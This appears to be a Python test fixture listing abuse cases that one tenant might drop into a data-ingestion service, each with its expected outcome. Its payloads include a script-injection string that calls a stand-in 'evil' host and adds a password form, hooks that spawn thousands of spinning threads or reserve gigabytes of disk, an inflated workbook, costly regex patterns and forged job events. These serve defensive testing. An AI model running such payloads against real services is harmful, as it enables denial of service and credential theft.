"""What one tenant can put into its own inbox to hurt others: folders of files, by the name of what they try."""

import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from core.drops import MAX_INPUTS
from core.jobs import State
from core.patterns import MAX_STARS
from tests.abuse.test_outputs import CASES as FORGED
from tests.abuse.test_outputs import FORGE
from tests.unit.core.test_manifest_bounds import COSTLY

MANIFEST = {"manifest": 1, "name": "m", "fields": [{"name": "id", "type": "integer"}, {"name": "name"}]}
CSV = "id,name\n1,Ann\n2,Bob\n"
REJECTED, WAITS, SUCCEEDS, FAILS, ANY = "rejected", State.AWAITING, State.SUCCEEDED, State.FAILED, "any"

Make = Callable[[Path], None]


@dataclass(frozen=True)
class Attack:
    """Fills one folder of the inbox; every such folder must end this way, at the first attempt and by no fault of ours."""

    make: Make
    ends: str
    reason: str = ""  # of a job that waits
    copies: int = 3  # one more than there are slots
    lasts: bool = False  # long enough for another tenant's drop to end meanwhile


def put(folder: Path, name: str, content: object) -> None:
    """As a plain `cp` does; a name may hold bytes that are no UTF-8, as surrogates."""
    path = Path(folder, name)
    path.parent.mkdir(parents=True, exist_ok=True)
    text = content if isinstance(content, str | bytes) else json.dumps(content)
    path.write_bytes(text if isinstance(text, bytes) else text.encode())


def drop(manifest: object, *names: str, body: str | bytes = CSV) -> Make:
    def make(folder: Path) -> None:
        for name in names or ("a.csv",):
            put(folder, name, body)
        put(folder, "manifest.json", manifest)

    return make


def fields(count: int, **more: object) -> dict[str, object]:
    return {
        "manifest": 1,
        "name": "m",
        "fields": [{"name": f"f{n}", **more} for n in range(count)] + MANIFEST["fields"],
    }


def selecting(*patterns: str, **more: object) -> dict[str, object]:
    return MANIFEST | {"inputs": {"primary": [*patterns], **more}}


def package(files: dict[str, str | bytes], **more: object) -> Make:
    """A drop with a config folder of these files."""

    def make(folder: Path) -> None:
        for name, source in files.items():
            put(folder, name, source)
        drop(MANIFEST | {"config": "./config"} | more)(folder)

    return make


def rule(source: str) -> Make:
    return package({"config/hooks/evil.py": source})


def at_start(body: str) -> Make:
    lines = "".join(f"    {line}\n" for line in body.splitlines())
    return rule(f"import ctypes, json, os, sys, threading, time\ndef on_job_start(**_):\n{lines}")


def forged(source: str) -> Make:
    return rule(FORGE + source)


def says(**event: object) -> Make:
    return at_start(f"os.write(3, {json.dumps(event).encode()!r} + b'\\n')\nos._exit(0)")


def many_files(folder: Path) -> None:
    folder.mkdir(parents=True)
    for n in range(MAX_INPUTS * 2 + 500):
        (folder / f"{n}.csv").write_text(CSV)
    put(folder, "manifest.json", selecting("*.csv", per="drop"))


def broken_zip(folder: Path) -> None:
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("columns/a.py", b"x = 1\n" * 1000)
    damaged = bytearray(body.getvalue())
    damaged[45] ^= 0xFF
    put(folder, "config.zip", bytes(damaged))
    drop(MANIFEST | {"config": "./config.zip"})(folder)


def broken_book() -> bytes:
    """A workbook whose one sheet cannot be unpacked."""
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>" * 1000)
        archive.writestr("[Content_Types].xml", "<Types/>" * 1000)
    damaged = bytearray(body.getvalue())
    for at in range(50, 70):
        damaged[at] ^= 0xFF
    return bytes(damaged)


SCRIPT = "<script>fetch('//evil')</script><form action=//evil><input name=password>"
SURROGATE = r'{"manifest": 1, "name": "\ud800", "fields": [{"name": "id"}]}'
SHEETS = """
def forge():
    parts = dict(members(os.pread(BOOK, 10_000_000, 0)))
    rels = b''.join(b'<Relationship Id="s%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>' % n for n in range(40))
    named = b''.join(b'<sheet name="S%d" sheetId="%d" r:id="s%d"/>' % (n, n + 9, n) for n in range(40))
    rel = 'xl/_rels/workbook.xml.rels'
    parts[rel] = parts[rel].replace(b'</Relationships>', rels + b'</Relationships>')
    parts['xl/workbook.xml'] = parts['xl/workbook.xml'].replace(b'</sheets>', named + b'</sheets>')
    sheet = 'xl/worksheets/sheet1.xml'
    parts[sheet] = parts[sheet].replace(b'<sheetData>', b' ' * 200_000_000 + b'<sheetData>')
    rewrite(BOOK, zipped(parts.items()))
"""

ATTACKS = {
    "stars that match late": Attack(drop(selecting("*a" * (MAX_STARS - 1) + "*b"), "a" * 200 + ".csv"), WAITS),
    "more stars than anybody needs": Attack(drop(selecting("*a" * 100 + "*b"), "a" * 200 + ".csv"), REJECTED),
    "a name that is half a character": Attack(drop(SURROGATE), REJECTED),
    "a manifest without end": Attack(drop("[" * 100_000), REJECTED),
    "a file name that is not UTF-8": Attack(drop(MANIFEST, "\udcff\udcfe.csv", "a.csv"), SUCCEEDS),
    "patterns that take long to compile": Attack(drop(fields(40, pattern=COSTLY)), SUCCEEDS, copies=1),
    "very many fields": Attack(drop(fields(10_000)), REJECTED),
    "an artifact of brackets": Attack(forged(FORGED["brackets"].replace("6_000_000", "20_000_000")), FAILS),
    "relations without end": Attack(forged(FORGED["relations without end"]), FAILS),
    "a huge part named by forty sheets": Attack(forged(SHEETS), FAILS),
    "rows without end": Attack(forged(FORGED["rows without end"]), FAILS),
    "space reserved on the disk": Attack(
        at_start(
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "for mode in (0, 1, 3, 16):\n"
            "    for fd in (4, 5):\n"
            "        libc.fallocate(fd, mode, ctypes.c_long(0), ctypes.c_long(3 << 30))"
        ),
        SUCCEEDS,
    ),
    "threads": Attack(
        at_start(
            "threading.stack_size(32768)\n"
            "for _ in range(3000):\n"
            "    threading.Thread(target=lambda: [x for x in iter(int, 1)], daemon=True).start()\n"
            "while True: pass"
        ),
        ANY,
        copies=1,
    ),
    "every slot until the limit": Attack(
        package(
            {"config/hooks/evil.py": "import time\ndef on_job_start(**_):\n    time.sleep(600)\n"},
            limits={"timeout_seconds": 6},
        ),
        ANY,
        lasts=True,
    ),
    "a report with a script": Attack(
        drop(MANIFEST | {"name": "m", "description": SCRIPT}, body=f"id,name,{SCRIPT}\n1,Ann,x\n"), SUCCEEDS
    ),
    "a formula": Attack(forged(FORGED["a formula"]), FAILS),
    "a link": Attack(forged(FORGED["a link"]), FAILS),
    "a claim that the engine broke": Attack(
        says(event="end", ok=False, error={"code": "engine_error", "message": "x", "where": {}}), FAILS
    ),
    "a word of another kind": Attack(says(event="progress", **{"pass": []}), FAILS),
    "an end without a word": Attack(at_start("os._exit(71)"), FAILS),
    "a config that cannot be unpacked": Attack(broken_zip, FAILS),
    "a workbook that cannot be unpacked": Attack(drop(selecting("*.xlsx"), "a.xlsx", body=broken_book()), FAILS),
    "a config whose names clash": Attack(
        package({"config/lib.zip/a.py": "x = 1\n", f"config/{'n' * 250}.py": "x = 1\n"}), SUCCEEDS
    ),
    "a drop of very many files": Attack(many_files, WAITS, reason="files", copies=1),
}
